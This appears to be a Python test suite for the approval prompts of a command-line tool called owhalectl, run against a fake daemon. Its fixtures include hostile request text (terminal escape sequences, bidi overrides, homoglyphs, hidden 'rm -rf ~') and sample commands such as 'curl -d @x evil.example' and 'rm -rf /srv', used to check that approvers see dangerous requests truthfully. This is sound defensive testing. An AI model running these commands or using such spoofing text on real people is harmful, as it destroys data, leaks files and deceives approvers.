#!/usr/bin/env python3
"""Requests for approval, as the people meet them who decide: against fake_daemon.py. usage: approvals_test.py OWHALECTL"""
import json, os, re, signal, subprocess, tempfile, time, unittest
from pathlib import Path

from people import CTL, GOOD, Case, Terminal
from screen import Screen

HOSTILE = {"command": ["bash", "-c", "x"], "principal": "unix:1000", "description": "\x1b[2J\x1b[H approved \u202e drow \x9b1;1H\ny\n└\nDigest  00",
           "cwd": "/home/alice/\x1b[1;1Hx\nAsked by  root",
           "frozen": {"script": "echo \x1b]0;title\x07 \x1b[99;1H\x1b[K\x1b[?1049l \u202e\u2066 \u200b \U000e0061 e\u0301 \u05d0\u05d1 p\u0430ypal 你好\n" + "\n" * 500 + "rm -rf ~" + " " * 3000 + "# end"}}


class Watching(Terminal):
    """owhalectl approvals watch, and what is on its screen."""

    def __init__(self, *arguments, rows=24, columns=80):
        super().__init__(*(arguments or ("approvals", "watch")), rows=rows, columns=columns)
        self.screen = Screen(rows, columns)

    def read(self):
        try:
            self.until(rb"(?!)", 0.1)  # never there: reads what has come
        except AssertionError:
            pass
        self.screen.feed(self.seen)
        return self.screen.text()

    def shows(self, pattern, seconds=60):
        end = time.time() + seconds
        while time.time() < end:
            if re.search(pattern, self.read()):
                return self.screen.text()
        raise AssertionError("never saw %r on\n%s" % (pattern, self.screen.text()))

    def shows_narrow(self, pattern, rows, columns):
        """Frames that were still drawn for the wider screen are passed over, until one fits."""
        for _ in range(200):
            self.screen = Screen(rows, columns)
            self.screen.taken, self.screen.alternate = len(self.seen), True
            try:
                return self.shows(pattern)
            except AssertionError as why:
                if "too wide" not in str(why) and "out of the screen" not in str(why):
                    raise
        raise AssertionError("it goes on to draw for the wider screen")

    def look(self):
        """As long as a person has to, once it stands still; what ticks every second does not count."""
        latest, still = time.time() + 20, time.time() + 0.8
        while time.time() < min(latest, still):
            before = re.sub(r"\d", "", self.screen.text())
            if re.sub(r"\d", "", self.read()) != before:
                still = time.time() + 0.8

    def to_the_end(self):
        for _ in range(60):
            self.look()
            if "space: more" not in self.screen.text():
                return
            self.type(b" ")
        raise AssertionError("it has no end")


class Approvals(Case):
    def waiting(self, *wanted, logged_in=True):
        with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as file:
            json.dump(list(wanted), file)
        self.addCleanup(os.unlink, file.name)
        os.environ["FAKE_APPROVALS"] = file.name
        self.fake()
        if logged_in:
            self.set_up()

    def post(self, path, body):
        done = subprocess.run(["curl", "-s", "--unix-socket", os.environ["OWHALE_SOCKET"], "http://localhost/" + path, "-d", json.dumps(body)],
                              capture_output=True, check=True)
        return json.loads(done.stdout or b"{}")

    def decided(self):
        return self.post("fake/decided", {})["decided"]

    def ids(self):
        return self.ctl("-q", "approvals", "ls").stdout.split()

    def watch(self, **more):
        watching = Watching(**more)
        self.addCleanup(lambda: self.end(watching))
        return watching

    @staticmethod
    def end(watching):
        try:
            os.kill(watching.pid, signal.SIGKILL)
            os.waitpid(watching.pid, 0)
        except (OSError, ChildProcessError):
            pass


class Commands(Approvals):
    def test_lists_and_names_by_both_ends(self):
        self.waiting({}, {"command": ["curl", "-d", "@x", "evil.example"], "severity": "critical"})
        listed = self.ctl("approvals", "ls").stdout
        self.assertRegex(listed, r"pending +critical .* curl -d @x evil.example\n.*pending +high .* git push\n")
        whole = self.ids()[0]
        for name in (whole, whole[:8], whole[-8:], whole[-6:]):
            self.assertIn(whole, self.ctl("approvals", "show", name).stdout)
        self.assertRegex(self.ctl("approvals", "show", "0199000", code=2).stderr, "more than one request's id")
        self.assertRegex(self.ctl("approvals", "show", "ffffff", code=5).stderr, "no request's id begins or ends")
        self.assertEqual(len(self.ctl("-o", "jsonl", "approvals", "ls").stdout.splitlines()), 2)

    def test_a_list_fits_80_columns(self):
        """Whoever asks, however hard, and however long it takes; with room, all of it."""
        self.waiting({"principal": "run:0199ffff-0000-7000-8000-00000abc0000", "severity": "critical", "command": ["echo", "x" * 200]}, {})
        for columns, heading in ((80, r"^ID +STATE +SEVERITY +WHEN +BY +COMMAND$"), (150, r"^ID +STATE +SEVERITY +ASKED +EXPIRES +BY +RULE +COMMAND$")):
            terminal = Terminal("approvals", "ls", rows=20, columns=columns)
            self.assertEqual(terminal.wait(), 0)
            lines = re.sub("\x1b\\[[0-9;]*m", "", terminal.seen.decode()).splitlines()
            self.assertEqual(len(lines), 3, lines)
            self.assertTrue(all(len(line) <= columns for line in lines), lines)
            self.assertRegex(lines[0], heading)
        self.assertRegex(lines[1] + lines[2], r"critical .* echo x+…")

    def test_a_pipe_has_to_say_what_was_read(self):
        self.waiting({})
        name, = self.ids()
        refused = self.ctl("approve", name, "--password-stdin", stdin=GOOD + "\n", code=2)
        self.assertRegex(refused.stderr, "nobody can read the request here[\\s\\S]*--digest")
        self.ctl("approve", name, "--digest", "0" * 64, "--password-stdin", stdin=GOOD + "\n", code=1)
        digest = json.loads(self.ctl("-o", "json", "approvals", "show", name).stdout)["digest"]
        self.ctl("approve", name, "--digest", digest, "-m", "fine", "--password-stdin", stdin=GOOD + "\n")
        self.assertEqual(self.decided()[0]["request"], {"digest": digest, "reason": "fine"})
        self.assertRegex(self.ctl("approve", name, "-y", "--password-stdin", stdin=GOOD + "\n", code=1).stderr, "approval_ended")

    def test_without_an_account_nobody_decides(self):
        self.waiting({}, logged_in=False)
        name, = self.ids()
        self.assertRegex(self.ctl("approve", name, "-y", code=3).stderr, "not logged in[\\s\\S]*owhalectl login")
        self.assertRegex(self.ctl("deny", name, code=3).stderr, "not logged in")
        self.ctl("approvals", "cancel", name, "-m", "no need")
        self.assertEqual(self.ids(), [])

    def test_grants(self):
        self.waiting({}, {}, {})
        one, two, three = self.ids()
        ok = dict(stdin=GOOD + "\n")
        self.ctl("approve", one, "-y", "--times", "5", "--for", "1h", "--password-stdin", **ok)
        self.ctl("approve", two, "-y", "--like", "git push <word> 'two words'", "--trust-workspace", "--for", "7d", "--password-stdin", **ok)
        self.ctl("deny", three, "-m", "no", "--password-stdin", **ok)
        grants = [row["request"].get("grant") for row in self.decided()]
        self.assertEqual(grants, [{"times": 5, "for_ms": 3600000},
                                  {"for_ms": 604800000, "like": ["git", "push", "<word>", "two words"], "trust_workspace": True}, None])
        for wrong in (["--once", "--times", "2"], ["--times", "0"], ["--for", "31d"], ["--for", "0"], ["--like", "a 'b"], ["--like", ""], ["--trust-workspace"]):
            if wrong != ["--like", ""]:
                self.ctl("approve", one, "-y", *wrong, code=2)

    def test_grants_are_listed_in_a_line_each(self):
        self.waiting({"command": ["bash", "-c", "echo \u202e\n" + "x" * 200]})
        name, = self.ids()
        self.ctl("approve", name, "-y", "--for", "1h", "--password-stdin", stdin=GOOD + "\n")
        self.assertIn("0199ffff-0000-7000-8000-00000abc0000", self.ctl("grants", "ls").stdout)
        terminal = Terminal("grants", "ls", rows=20, columns=80)
        self.assertEqual(terminal.wait(), 0)
        lines = terminal.seen.decode().splitlines()
        self.assertEqual(len(lines), 2, lines)
        self.assertRegex(re.sub("\x1b\\[[0-9;]*m", "", lines[1]), r"^0abc0000  unix:1000  active  0 +in 6\dm +bash -c 'echo \\u\{202e\}\\nx+…$")
        self.assertIn("0199ffff", self.ctl("-o", "json", "grants", "show", "0abc0000").stdout)

    def test_it_is_read_before_it_is_approved(self):
        self.waiting({"description": "please"})
        name, = self.ids()
        terminal = Terminal("approve", name[-8:], rows=12, columns=80)
        terminal.until(rb"git push[\s\S]*Enter shows more")
        while not re.search(rb"needs the password", terminal.seen):
            terminal.seen = b""
            terminal.type(b"\n")
            terminal.until(rb"Enter shows more, q ends --|needs the password of user:admin: ")
        terminal.answer(rb"owhaled needs the password of user:admin: ", GOOD)
        self.assertEqual(terminal.wait(), 0)
        self.assertIn(b"approved; run", terminal.seen)
        self.assertEqual(len(self.decided()), 1)

    def test_not_read_to_its_end_is_not_approved(self):
        self.waiting({})
        name, = self.ids()
        terminal = Terminal("approve", name, rows=12, columns=80)
        terminal.answer(rb"Enter shows more", "q")
        self.assertEqual(terminal.wait(), 2)
        self.assertEqual(self.decided(), [])

    def test_where_no_password_is_typed_only_a_yes_approves(self):
        self.waiting({})
        name, = self.ids()
        for typed in ("", "y", "no"):
            terminal = Terminal("approve", name, "--password-stdin", rows=60, columns=100)
            terminal.type(GOOD.encode() + b"\n")
            terminal.answer(rb"Approve this, once\? Type yes: ", typed)
            self.assertEqual(terminal.wait(), 1)
            self.assertIn(b"nothing is approved", terminal.seen)
            self.assertEqual(self.decided(), [])
        terminal = Terminal("approve", name, "--password-stdin", "--times", "2", rows=60, columns=100)
        terminal.type(GOOD.encode() + b"\n")
        terminal.answer(rb"Approve this, with the grant above\? Type yes: ", "yes")
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(self.decided()[0]["request"]["grant"], {"times": 2})

    def test_enter_that_reads_on_approves_nothing(self):
        """Through all pages, and once more: it was meant for the pager, whether a password is due or not."""
        self.waiting({})
        name, = self.ids()
        terminal = Terminal("approve", name, "--password-stdin", rows=12, columns=80)
        terminal.type(GOOD.encode() + b"\n")
        terminal.until(rb"Enter shows more, q ends --")
        while not re.search(rb"Type yes: ", terminal.seen):
            terminal.seen = b""
            terminal.type(b"\n")
            terminal.until(rb"Enter shows more, q ends --|nothing is approved yet --[\s\S]*Type yes: ")
        terminal.type(b"\n")
        self.assertEqual(terminal.wait(), 1)
        self.assertEqual(self.decided(), [])

    def test_an_open_window_spares_no_password_where_it_is_the_yes(self):
        self.waiting({}, {})
        watching = self.watch(rows=40)
        watching.shows("2 waiting")
        watching.look()
        watching.type(b"y")
        watching.shows("Password of")
        watching.type(GOOD.encode() + b"\r")
        watching.shows(r"1 waiting[\s\S]*approved")
        name, = self.ids()
        terminal = Terminal("approve", name, rows=60, columns=100)
        terminal.until(rb"owhaled needs the password of user:admin: ")
        self.assertEqual(len(self.decided()), 1)
        terminal.type(GOOD.encode() + b"\n")
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(len(self.decided()), 2)

    def test_hostile_texts_on_a_plain_terminal(self):
        self.waiting(HOSTILE)
        name, = self.ids()
        for words in (("approvals", "show", name), ("approvals", "ls"), ("approvals", "show", "-d", name)):
            terminal = Watching(*words, rows=2000, columns=80)
            self.assertEqual(terminal.wait(), 0)
            terminal.screen.feed(terminal.seen)
            text = terminal.screen.text()
            self.assertEqual(len(re.findall("^Digest", text, re.M)), 1 if "show" in words else 0)

    def test_an_account_for_once(self):
        self.waiting({}, logged_in=False)
        self.ctl("setup", "--password-stdin", stdin=GOOD + "\n")
        name, = self.ids()
        terminal = Terminal("approve", name, "--log-in", rows=60, columns=100)
        terminal.answer(rb"Account that decides \[alice\]: ", "admin")
        terminal.answer(rb"Password of admin, to approve what was shown: ", GOOD)
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(self.tokens(), [])
        self.assertEqual(len(self.decided()), 1)

    def test_three_tries_and_nothing_of_them_is_echoed(self):
        self.waiting({}, {}, logged_in=False)
        self.ctl("setup", "--password-stdin", stdin=GOOD + "\n")
        name, other = self.ids()
        terminal = Terminal("approve", name, "--log-in", rows=60, columns=100)
        terminal.answer(rb"Account that decides \[alice\]: ", "admin")
        for question in (rb"Password of admin, to approve what was shown: ", rb"is wrong[\s\S]*Password of admin"):
            terminal.answer(question, "guess-of-mine\ntyped-ahead")  # at once: later it could be the next try
        terminal.until(rb"is wrong[\s\S]*Password of admin[^:]*: ")
        time.sleep(0.2)
        terminal.answer(rb"", GOOD)
        self.assertEqual(terminal.wait(), 0)
        self.assertEqual(len(self.decided()), 1)
        self.assertNotRegex(terminal.before + terminal.seen, rb"guess|typed|correct")
        self.assertTrue(terminal.echoes())
        terminal = Terminal("approve", other, "--log-in", rows=60, columns=100)
        terminal.answer(rb"Account that decides", "admin")
        for _ in range(3):
            terminal.answer(rb"Password of admin, to approve what was shown: ", "guess-of-mine")
        self.assertEqual(terminal.wait(), 3)
        self.assertIn(b"owhalectl approve " + other.encode(), terminal.seen)
        self.assertNotIn(b"guess", terminal.before + terminal.seen)
        self.assertEqual(len(self.decided()), 1)

    def test_a_signal_leaves_the_echo_on(self):
        self.waiting({})
        name, = self.ids()
        for number in (signal.SIGINT, signal.SIGTERM):
            terminal = Terminal("approve", name, rows=60, columns=100)
            terminal.until(rb"owhaled needs the password")
            os.kill(terminal.pid, number)
            self.assertIn(terminal.wait(), (-number, 128 + number))
            self.assertTrue(terminal.echoes())


class Watch(Approvals):
    def test_approve_deny_and_one_password(self):
        self.waiting({}, {"command": ["git", "push", "--tags"]}, {"command": ["curl", "x"]})
        watching = self.watch(rows=40)
        watching.shows(r"3 waiting +user:admin, password not given yet[\s\S]*> .*git push[\s\S]*Asked by +unix:1000")
        watching.look()
        watching.type(b"y")
        watching.shows(r"Password of user:admin:")
        watching.type(b"wrong one\r")
        watching.shows(r"That is wrong\. Password:")
        watching.type(GOOD.encode() + b"\r")
        watching.shows(r"2 waiting[\s\S]*approved")
        watching.shows(r"password good until \d\d:\d\d:\d\dZ")
        watching.look()
        watching.type(b"n")
        watching.shows(r"Deny, because")
        watching.type(b"not tags\r")
        watching.shows(r"1 waiting[\s\S]*denied")
        watching.look()
        watching.type(b"y")  # the window is open
        watching.shows(r"0 waiting[\s\S]*Nobody waits")
        watching.type(b"q")
        self.assertEqual(watching.wait(), 0)
        watching.read()
        self.assertFalse(watching.screen.alternate)
        self.assertTrue(watching.screen.wrap and watching.screen.cursor and watching.cooked())
        self.assertEqual([row["word"] for row in self.decided()], ["approve", "deny", "approve"])
        self.assertEqual(self.decided()[1]["request"]["reason"], "not tags")
        self.assertNotIn(GOOD.encode(), watching.seen)

    def test_after_the_window_the_password_is_asked_for_on_a_new_connection(self):
        self.waiting({}, {"command": ["curl", "x"]})
        watching = self.watch(rows=40)
        watching.shows("2 waiting")
        watching.look()
        watching.type(b"y")
        watching.shows("Password of")
        watching.type(GOOD.encode() + b"\r")
        watching.shows(r"1 waiting[\s\S]*approved")
        self.post("fake/idle", {})
        watching.look()
        watching.type(b"y")
        watching.shows("Password of user:admin:")
        watching.type(b"n\r")  # a wrong one, and no denial
        watching.shows("That is wrong")
        watching.type(GOOD.encode() + b"\r")
        watching.shows(r"0 waiting[\s\S]*approved")
        self.assertEqual([row["word"] for row in self.decided()], ["approve", "approve"])

    def test_what_follows_a_failure_is_no_keys(self):
        self.waiting({}, {})
        first = self.ids()[-1]
        watching = self.watch(rows=40)
        watching.shows("2 waiting")
        watching.look()
        watching.type(b"y")
        watching.shows("Password of")
        self.post("fake/change", {"id": first, "digest": "0" * 64})
        watching.type(GOOD.encode() + b"\r")
        watching.shows("Enter goes on; the digest")
        for byte in b"n q b y n":
            watching.type(bytes([byte]))
            watching.look()
        self.assertRegex(watching.screen.text(), "2 waiting[\s\S]*Enter goes on")
        watching.type(b"\r")
        watching.shows("y approve")
        self.assertEqual(self.decided(), [])

    def test_keys_that_came_too_early_decide_nothing(self):
        self.waiting({}, {})
        watching = self.watch()
        watching.type(b"yyyyyynnn")
        watching.shows(r"2 waiting")
        watching.type(b"y")
        watching.shows(r"too early")
        watching.to_the_end()
        watching.type(b"yy")  # two at once: typed ahead, or a paste
        watching.shows(r"too early")
        watching.type(b"\x1b[200~y\x1b[201~")
        watching.look()
        watching.type(b"jy")  # the next one was not on the screen
        watching.look()
        self.assertEqual(self.decided(), [])
        self.assertNotIn("Password", watching.screen.text())

    def test_a_request_that_takes_the_place_of_another_is_not_decided_by_its_key(self):
        self.waiting({}, {"command": ["rm", "-rf", "/srv"]})
        first = self.ids()[-1]
        watching = self.watch(rows=40)
        watching.shows("git push")
        watching.look()
        changed = time.monotonic()
        self.post("fake/change", {"id": first, "state": "cancelled"})
        watching.shows(r"1 waiting[\s\S]*rm -rf /srv")
        watching.type(b"y")
        # Half a second is what a person has to look; on a busy machine it may be over by now, and the key counts.
        quick = time.monotonic() - changed < 0.4
        watching.shows("too early" if quick else "too early|Password")
        self.assertEqual(self.decided(), [])

    def test_all_of_it_has_to_be_read(self):
        script = "\n".join("echo %d" % number for number in range(60)) + "\nrm -rf ~"
        self.waiting({"command": ["bash", "-c", script], "frozen": {"script": script}})
        watching = self.watch()
        watching.shows("echo 3")
        watching.look()
        watching.type(b"y")
        watching.shows("read it to its end first")
        watching.type(b"\x1b[F")  # End skips what is between
        watching.look()
        watching.type(b"y")
        watching.shows("read it to its end first")
        watching.type(b"\x1b[H")
        watching.to_the_end()
        watching.type(b"y")
        watching.shows("Password of user:admin")
        watching.type(b"\x1b")
        watching.shows("nothing was decided")

    def test_a_grant_is_shown_before_it_is_stored(self):
        self.waiting({})
        watching = self.watch(rows=40)
        watching.shows("git push")
        watching.look()
        for key, question in ((b"g", "Also for: "), (b"l\r", "For how long"), (b"8h\r", r"This would be stored[\s\S]*Template +git push <word>[\s\S]*Only yes")):
            watching.type(key)
            watching.shows(question)
        watching.type(b"yes\r")
        watching.shows("Password of")
        watching.type(GOOD.encode() + b"\r")
        watching.shows("a grant is stored")
        self.assertEqual(self.decided()[0]["request"]["grant"], {"like": ["git", "push", "<word>"], "for_ms": 28800000})

    def test_trust_in_the_workspace_is_a_choice_of_its_own(self):
        self.waiting({"command": ["make"], "offer": {"once_only": True, "binds": [], "template": ["make", "<word>"]}})
        watching = self.watch(rows=40)
        watching.shows("make")
        for answer in (b"", b"y", b"yes"):
            watching.look()
            for key, question in ((b"g", "Also for: "), (b"n\r", "It runs code of the workspace that nothing binds. Trust that, too\\? type yes:")):
                watching.type(key)
                watching.shows(question)
            watching.type(answer + b"\r")
            watching.shows("How many further times" if answer == b"yes" else "no grant: none without trust in the workspace")
        watching.type(b"3\r")
        watching.shows(r"This would be stored[\s\S]*Trusts +whatever the workspace[\s\S]*Only yes")
        watching.type(b"yes\r")
        watching.shows("Password of")
        watching.type(GOOD.encode() + b"\r")
        watching.shows("a grant is stored")
        self.assertEqual([row["request"]["grant"] for row in self.decided()], [{"times": 3, "trust_workspace": True}])

    def test_like_requests_together(self):
        self.waiting(*[{"command": ["git", "push", "origin", name]} for name in ("a", "b", "c")], {"command": ["git", "push", "--force", "a"]})
        watching = self.watch(rows=50)
        watching.shows("4 waiting")
        watching.look()
        watching.type(b"b")
        watching.shows(r"3 like requests together[\s\S]*Request 1 of 3")
        watching.to_the_end()
        watching.type(b"y")
        watching.shows("Password of")
        watching.type(GOOD.encode() + b"\r")
        watching.shows(r"1 waiting[\s\S]*3 approved")
        self.assertEqual(len(self.decided()), 3)

    def test_hostile_texts_at_both_sizes(self):
        self.waiting(HOSTILE)
        for rows, columns in ((24, 80), (10, 40)):
            watching = self.watch(rows=rows, columns=columns)
            watching.shows("1 waiting")
            watching.to_the_end()
            text = watching.read()
            self.assertTrue(watching.screen.alternate)
            self.assertRegex(text.splitlines()[0], "1 waiting")
            self.assertRegex(text.splitlines()[-1], "^y (approve|yes)")
            watching.type(b"d")
            watching.to_the_end()
            watching.type(b"q")
            self.assertEqual(watching.wait(), 0)

    def test_new_ones_ring_and_ended_ones_go(self):
        self.waiting()
        watching = self.watch()
        watching.shows("Nobody waits")
        made = self.post("fake/ask", {})
        watching.shows(r"1 waiting[\s\S]*git push")
        self.assertGreaterEqual(watching.screen.bells, 1)
        self.post("fake/change", {"id": made["id"], "state": "expired"})
        watching.shows(r"0 waiting[\s\S]*Nobody waits")

    def test_it_says_how_those_ended_that_were_on_the_screen(self):
        self.waiting({}, {"command": ["ls"]})
        second, first = self.ids()
        watching = self.watch()
        watching.shows("2 waiting")
        self.post("fake/change", {"id": first, "state": "cancelled", "ended_because": "its client went"})
        watching.shows(r"1 waiting[\s\S]*%s cancelled: its client went" % first[-8:])
        watching.look()
        watching.type(b"n")
        watching.shows("Deny, because")
        self.post("fake/change", {"id": second, "state": "expired", "ended_because": "nobody answered it in time"})
        watching.shows(r"0 waiting[\s\S]*Enter goes on; %s expired: nobody" % second[-8:])
        watching.type(b"q")
        watching.look()
        watching.type(b"\r")
        watching.shows("y approve")

    def test_what_is_throttled_is_counted(self):
        self.waiting({}, {"throttled": True}, {"throttled": True}, {"throttled": True, "state": "expired"})
        self.watch().shows(r"1 waiting[\s\S]*1 of 1, .*2 more throttled \(approvals ls -a\)")
        self.assertIn("2 more throttled (approvals ls -a)", self.ctl("approvals", "ls").stderr)
        for words in (("-a",), ("--state", "expired"), ("-q",)):
            self.assertNotIn("more throttled", self.ctl("approvals", "ls", *words).stderr)

    def test_resizing_stopping_and_signals_leave_the_terminal_in_order(self):
        self.waiting({})
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            watching = self.watch()
            watching.shows("1 waiting")
            watching.resize(10, 40)
            os.kill(watching.pid, signal.SIGWINCH)
            watching.shows_narrow("^1 waiting  user:admin", 10, 40)
            os.kill(watching.pid, number)
            self.assertEqual(watching.wait(), 128 + number)
            watching.screen.feed(watching.seen)
            self.assertFalse(watching.screen.alternate)
            self.assertTrue(watching.cooked())

    def test_a_stop_gives_the_terminal_back(self):
        self.waiting({})
        watching = self.watch()
        watching.shows("1 waiting")
        watching.type(b"\x1a")
        _, status = os.waitpid(watching.pid, os.WUNTRACED)
        self.assertTrue(os.WIFSTOPPED(status))
        watching.read()
        self.assertFalse(watching.screen.alternate)
        self.assertTrue(watching.cooked())
        os.kill(watching.pid, signal.SIGCONT)
        watching.shows("1 waiting")
        self.assertTrue(watching.screen.alternate)

    def test_to_look_only(self):
        self.waiting({}, logged_in=False)
        watching = self.watch(rows=40)
        watching.shows(r"not logged in: to look only[\s\S]*Not by you +log in")
        watching.look()
        watching.type(b"y")
        watching.shows("log in: unix: principals never decide")


class Lines(Approvals):
    def start(self, *words):
        process = subprocess.Popen([CTL, *words], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
        self.addCleanup(lambda: (process.kill(), process.wait(), process.stdout.close(), process.stderr.close()))
        return process

    def test_a_line_for_each(self):
        self.waiting({})
        name, = self.ids()
        process = self.start("-o", "jsonl", "approvals", "watch")
        line = json.loads(process.stdout.readline())
        self.assertEqual((line["event"], line["approval"]["id"]), ("approval.requested", name))
        self.ctl("deny", name, "--password-stdin", stdin=GOOD + "\n")
        line = json.loads(process.stdout.readline())
        self.assertEqual((line["event"], line["approval"]["decisions"][0]["by"]), ("approval.denied", "user:admin"))
        process.send_signal(signal.SIGTERM)
        self.assertEqual(process.wait(60), 143)

    def test_a_command_of_one_s_own(self):
        self.waiting({"command": ["secret-command"]})
        out = Path(self.home.name) / "told"
        hook = "env | grep -a OWHALE_ | sort > %s; env | grep -ac secret-command >> %s; echo noise; exit 3" % (out, out)
        process = self.start("-o", "jsonl", "approvals", "watch", "--exec", hook)
        self.assertIn("ended with exit code 3", iter_until(process.stderr, "exit code"))
        told = out.read_text()
        for line in (r"OWHALE_APPROVAL_ID=0199.*", "OWHALE_PRINCIPAL=unix:1000", "OWHALE_SEVERITY=high"):
            self.assertRegex(told, f"(?m)^{line}$")
        self.assertTrue(told.endswith("\n0\n"), told)
        self.assertEqual(json.loads(process.stdout.readline())["event"], "approval.requested")  # and no noise

    def test_four_at_once_and_none_blocks(self):
        self.waiting(*[{}] * 7)
        folder = Path(self.home.name)
        hook = "mkdir %s/r-$OWHALE_APPROVAL_ID; ls %s | grep -c '^r-' >> %s/most; sleep 0.5; rmdir %s/r-$OWHALE_APPROVAL_ID" % ((folder,) * 4)
        process = self.start("-o", "jsonl", "approvals", "watch", "--exec", hook)
        for _ in range(7):
            process.stdout.readline()
        for _ in range(1200):
            if (folder / "most").exists() and len((folder / "most").read_text().split()) == 7:
                break
            time.sleep(0.05)
        counts = [int(count) for count in (folder / "most").read_text().split()]
        self.assertEqual(len(counts), 7)
        self.assertLessEqual(max(counts), 4)


def iter_until(stream, word):
    text = ""
    while word not in text:
        line = stream.readline()
        if not line:
            break
        text += line
    return text


if __name__ == "__main__":
    unittest.main()
